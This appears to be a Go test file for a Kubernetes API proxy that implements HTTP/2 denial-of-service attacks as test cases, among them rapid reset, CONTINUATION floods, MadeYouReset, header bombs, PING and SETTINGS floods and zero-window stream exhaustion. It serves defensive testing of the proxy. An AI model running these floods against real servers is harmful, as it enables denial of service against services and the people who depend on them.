package attack_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"

	"github.com/watchfan/watchfan/proxy/suites/proxytest"
)

// http2Kinds are attacks by frames (RFC 9113, section 10.5).
var http2Kinds = []kind{
	{name: "HTTP/2: rapid reset", run: bursts(false, rapidReset)},
	{name: "HTTP/2: streams that the server must reset", run: bursts(false, madeYouReset)},
	// Heads of megabytes that never end (CVE-2023-45288).
	{name: "HTTP/2: CONTINUATION flood", run: heads(2, func(c *h2Conn) {
		c.begin()
		for range 500 {
			c.more(fields(3000, "b"))
		}
	})},
	{name: "HTTP/2: heads that never end", run: streams{connections: 20, of: stranger, begin: func(c *h2Conn, _ int) { c.begin() },
		drip: func(c *h2Conn, _ uint32) { c.more(fields(1, "b")) }, pause: 100 * time.Millisecond}.attack},
	// Asks for answers and does not read them.
	{name: "HTTP/2: PING flood", run: bursts(true, func(c *h2Conn) {
		for range 500 {
			c.try(c.WritePing(false, [8]byte{}))
		}
	})},
	{name: "HTTP/2: SETTINGS flood", run: bursts(true, settingsFlood)},
	{name: "HTTP/2: floods of idle frames", run: bursts(false, idleFrames)},
	{name: "HTTP/2: empty DATA", run: bursts(false, func(c *h2Conn) {
		if c.next == 1 {
			c.ask("POST", c.attacker.own()+"?dryRun=All", false)
		}
		for range 300 {
			c.try(c.WriteData(1, false, nil))
		}
	})},
	{name: "HTTP/2: zero windows", most: 2, run: streams{connections: 1, of: crawler, settings: window(0), begin: everything}.attack},
	{name: "HTTP/2: one-byte windows", most: 2, run: streams{connections: 1, of: crawler, settings: window(1), begin: everything,
		drip: takeByte, pause: 100 * time.Millisecond}.attack},
	{name: "HTTP/2: bodies that never end", run: streams{connections: 3, of: mallory, begin: func(c *h2Conn, _ int) {
		for range streamsAllowed {
			c.ask("POST", c.attacker.own()+"?dryRun=All", false)
		}
	}}.attack},
	{name: "HTTP/2: header bombs", run: heads(5, headerBomb)},
	{name: "HTTP/2: malformed requests", run: malformedHTTP2},
}

// streamsAllowed is how many streams a connection may have at the same time. kube-apiserver allows
// as many.
const streamsAllowed = 100

// h2Conn is an attacker's HTTP/2 connection. It sends any frame.
type h2Conn struct {
	*proxytest.HTTP2Wire
	ctx      context.Context // of the attack
	attacker *attacker
	token    string
	conn     net.Conn
	next     uint32 // stream
	wrong    error  // the first frame that could not be written
	answered chan struct{}
	answer   func() // closes answered: the server has answered anything, or ended the connection

	grown  chan struct{} // one token: the windows have changed; never closed
	mu     sync.Mutex
	window int64            // of a stream, which the server has set
	sent   map[uint32]int64 // bytes of each stream's body less what the server's windows have grown by; 0 is the connection
}

const firstWindow = 65_535 // RFC 9113, section 6.9.2

// onHTTP2 opens a connection with a small receive buffer and lets f attack. Meanwhile it reads what the
// server sends, unless deaf, and notes how it answers and how the connection ends.
func (a *attacker) onHTTP2(ctx context.Context, token string, deaf bool, settings []http2.Setting, f func(c *h2Conn) error) {
	conn, err := a.dial(ctx, a.Secure, "h2")
	if err == nil && conn.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
		conn.Close() // the server offers HTTP/1.1 alone, and there is no attack
		return
	}
	c := &h2Conn{ctx: ctx, attacker: a, token: token, conn: conn, next: 1, answered: make(chan struct{}), window: firstWindow,
		sent: make(map[uint32]int64), grown: make(chan struct{}, 1)}
	c.answer = sync.OnceFunc(func() { close(c.answered) })
	if err == nil {
		c.HTTP2Wire, err = proxytest.NewHTTP2Wire(conn, settings...)
	}
	if err != nil {
		a.note(ending(err))
		return
	}
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	if !deaf {
		reading.Go(c.read)
	}
	if err = errors.Join(f(c), c.flush()); err != nil && ctx.Err() == nil {
		a.note(ending(err))
		return
	}
	a.note("sent")
	if deaf {
		return
	}
	select {
	case <-c.answered:
	case <-ctx.Done():
	case <-time.After(5 * time.Second):
	}
}

// try notes why a frame could not be written, for flush.
func (c *h2Conn) try(errs ...error) { c.wrong = errors.Join(append(errs, c.wrong)...) }

// flush sends what has been written. A server that does not read for five seconds is an error.
func (c *h2Conn) flush() error {
	_ = c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
	return errors.Join(c.wrong, c.Flush())
}

// read notes the server's answers, and looks in them for what the attacker may not see.
func (c *h2Conn) read() {
	defer c.answer()
	kept := make(map[uint32][]byte) // the end of each body so far
	for {
		f, err := c.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			c.answer()
			c.attacker.note(f.PseudoValue("status"))
		case *http2.RSTStreamFrame:
			c.answer()
			c.attacker.note("reset " + f.ErrCode.String())
			delete(kept, f.StreamID)
		case *http2.GoAwayFrame:
			c.answer()
			c.attacker.note("GOAWAY " + f.ErrCode.String())
		case *http2.SettingsFrame:
			if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
				c.grow(func() { c.window = int64(size) })
			}
		case *http2.WindowUpdateFrame:
			c.grow(func() { c.sent[f.StreamID] -= int64(f.Increment) })
		case *http2.DataFrame:
			kept[f.StreamID] = c.attacker.search(c.token, append(kept[f.StreamID], f.Data()...), "a stream")
		}
	}
}

// grow changes the windows, and tells body.
func (c *h2Conn) grow(change func()) {
	c.mu.Lock()
	defer c.mu.Unlock()
	change()
	select {
	case c.grown <- struct{}{}:
	default:
	}
}

// ask opens a stream with a request and returns its number. ended means that it has no body.
func (c *h2Conn) ask(method, uri string, ended bool, more ...string) (id uint32) {
	id = c.next
	c.next += 2
	c.try(c.Ask(id, ended, proxytest.RequestFields(method, uri, append(more, "authorization", "Bearer "+c.token)...)...))
	return id
}

// body sends n bytes of a stream's body, as far as the server's windows allow it within a time.
func (c *h2Conn) body(id uint32, n int64, most time.Duration) {
	for late := time.After(most); n > 0; {
		c.mu.Lock()
		some := max(0, min(n, 16<<10, c.window-c.sent[id], firstWindow-c.sent[0]))
		c.sent[id] += some
		c.sent[0] += some
		c.mu.Unlock()
		if n -= some; some > 0 {
			c.try(c.WriteData(id, false, bytes.Repeat([]byte(" "), int(some))))
			continue
		}
		if c.flush() != nil {
			return
		}
		select {
		case <-c.grown:
		case <-late:
			return
		case <-c.ctx.Done():
			return
		}
	}
}

// begin begins a head on the first stream, which more continues.
func (c *h2Conn) begin() {
	c.next = 3
	c.try(c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, BlockFragment: c.Encode(proxytest.RequestFields("GET", "/version")...)}))
}

func (c *h2Conn) more(fragment string) { c.try(c.WriteContinuation(1, false, []byte(fragment))) }

// fields are n literal fields that no table keeps. The value has at most 126 bytes.
func fields(n int, value string) string {
	return strings.Repeat("\x00\x01a"+string(rune(len(value)))+value, n)
}

// bursts opens a connection each second, and lets send send on each 20 times a second until it fails.
func bursts(deaf bool, send func(c *h2Conn)) assault {
	return func(ctx context.Context, a *attacker) {
		pause := time.Duration(float64(time.Second) / (20 * a.Rate))
		a.every(ctx, 1, func() {
			a.onHTTP2(ctx, mallory(a), deaf, nil, func(c *h2Conn) error {
				for ctx.Err() == nil {
					send(c)
					if err := c.flush(); err != nil {
						return err
					}
					a.note("burst")
					proxytest.Sleep(ctx, pause)
				}
				return nil
			})
		})
	}
}

// heads sends a stranger's head on each of so many connections a second.
func heads(perSecond float64, send func(c *h2Conn)) assault {
	return func(ctx context.Context, a *attacker) {
		a.every(ctx, perSecond, func() {
			a.onHTTP2(ctx, stranger(a), false, nil, func(c *h2Conn) error { send(c); return nil })
		})
	}
}

// streams is an attack that keeps streams open.
type streams struct {
	connections int
	of          who
	settings    []http2.Setting
	begin       func(c *h2Conn, i int)     // opens those of connection i
	drip        func(c *h2Conn, id uint32) // is called for each of them now and then; nil: nothing is done
	pause       time.Duration
}

// attack keeps the connections. One that the server ends begins again.
func (s streams) attack(ctx context.Context, a *attacker) {
	crowd(s.connections, func(i int) {
		for ctx.Err() == nil {
			a.onHTTP2(ctx, s.of(a), false, s.settings, func(c *h2Conn) error {
				s.begin(c, i)
				err := c.flush()
				if s.drip == nil && err == nil {
					<-ctx.Done()
				}
				for err == nil && proxytest.Sleep(ctx, s.pause) {
					for id := uint32(1); id < c.next; id += 2 {
						s.drip(c, id)
					}
					err = c.flush()
				}
				return err
			})
			proxytest.Sleep(ctx, 100*time.Millisecond)
		}
	})
}

// window is the settings of a client that takes so many bytes of each stream.
func window(size uint32) []http2.Setting {
	return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: size}}
}

// takeByte takes another byte of a stream.
func takeByte(c *h2Conn, id uint32) { c.try(c.WriteWindowUpdate(id, 1)) }

// everything asks for all that there is, in lists and watches.
func everything(c *h2Conn, _ int) {
	for i := range streamsAllowed {
		c.ask("GET", allConfigMaps+"resourceVersion=0"+[]string{"", "&watch=1"}[min(i%4, 1)], true) // a list has megabytes
	}
}

// rapidReset opens streams and resets them at once (CVE-2023-44487): lists, watches, and writes.
func rapidReset(c *h2Conn) {
	a := c.attacker
	for range 50 {
		method, uri := "GET", []string{a.own() + "?resourceVersion=0", a.own() + "?resourceVersion=0&watch=1", allConfigMaps + manyValues(50)}[a.rng.IntN(3)]
		if a.rng.IntN(10) == 0 {
			method, uri = "POST", a.own()
		}
		c.try(c.WriteRSTStream(c.ask(method, uri, method == "GET"), http2.ErrCodeCancel))
	}
}

// madeYouReset opens streams and has the server reset them (CVE-2025-8671): by an update of nothing
// to a window, by one that overflows it, and by a body behind the end.
func madeYouReset(c *h2Conn) {
	for range 50 {
		id := c.ask("GET", c.attacker.own()+"?resourceVersion=0&watch=1", true)
		switch c.attacker.rng.IntN(3) {
		case 0:
			c.try(c.WriteWindowUpdate(id, 0))
		case 1:
			c.try(c.WriteWindowUpdate(id, 1<<31-1))
		case 2:
			c.try(c.WriteData(id, true, []byte("{}")))
		}
	}
}

// settingsFlood changes the windows of open streams each time.
func settingsFlood(c *h2Conn) {
	for c.next < 2*streamsAllowed {
		c.ask("GET", c.attacker.own()+"?resourceVersion=0&watch=1", true)
	}
	for i := range uint32(300) {
		c.try(c.WriteSettings(window(i)...))
	}
}

// idleFrames are frames that ask for nothing: updates of windows, priorities, and types that nobody
// knows.
func idleFrames(c *h2Conn) {
	for i := range uint32(300) {
		c.try(c.WriteWindowUpdate(0, 1), c.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 0}), c.WriteRawFrame(0xf0, 0, 0, make([]byte, 100)))
	}
}

// headerBomb is a head that is small on the wire and large in memory (CVE-2026-49975): one large
// field that is named again and again, or very many small ones.
func headerBomb(c *h2Conn) {
	field := [][]string{{"x-large", strings.Repeat("x", 3900)}, {"cookie", "a=b"}}[c.attacker.rng.IntN(2)]
	block := slices.Concat(c.Encode(proxytest.RequestFields("GET", "/version", field...)...), bytes.Repeat([]byte{0xbe}, 10_000)) // the newest entry of the table
	c.try(c.AskBlock(1, true, block))
}

// malformedHTTP2 sends the attacks of the table, with a garbage token.
func malformedHTTP2(ctx context.Context, a *attacker) {
	all := proxytest.HTTP2Attacks("malformed")
	a.every(ctx, 10, func() {
		a.onHTTP2(ctx, stranger(a), true, nil, func(c *h2Conn) error { // some of them read answers themselves
			err := errors.Join(all[a.rng.IntN(len(all))].Send(c.HTTP2Wire), c.flush())
			_ = c.conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			c.read()
			return err
		})
	})
}
